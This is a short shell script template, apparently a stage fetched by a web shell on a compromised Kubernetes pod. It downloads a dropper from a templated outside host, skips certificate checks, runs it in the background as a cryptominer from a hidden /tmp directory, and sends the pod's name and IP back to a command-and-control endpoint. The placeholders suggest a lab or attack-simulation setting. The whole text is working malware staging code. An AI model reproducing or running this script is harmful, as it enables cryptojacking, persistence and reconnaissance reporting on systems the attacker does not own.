#!/bin/sh
# fetched by the web shell; keeps the miner alive and phones home
cd /tmp/.x || exit 1
curl -sk "https://{{ outsideIp }}:{{ c2Port }}/{{ dropper }}" -o ./{{ dropper }} && chmod +x ./{{ dropper }}
pgrep -f {{ dropper }} >/dev/null || nohup ./{{ dropper }} -o pool.{{ outsideIp }}.nip.io:{{ c2Port }} >/dev/null 2>&1 &
curl -sk -X POST "https://{{ outsideIp }}:{{ c2Port }}/k" -d "pod={{ compromisedPod }}&ip={{ compromisedPodIp }}"
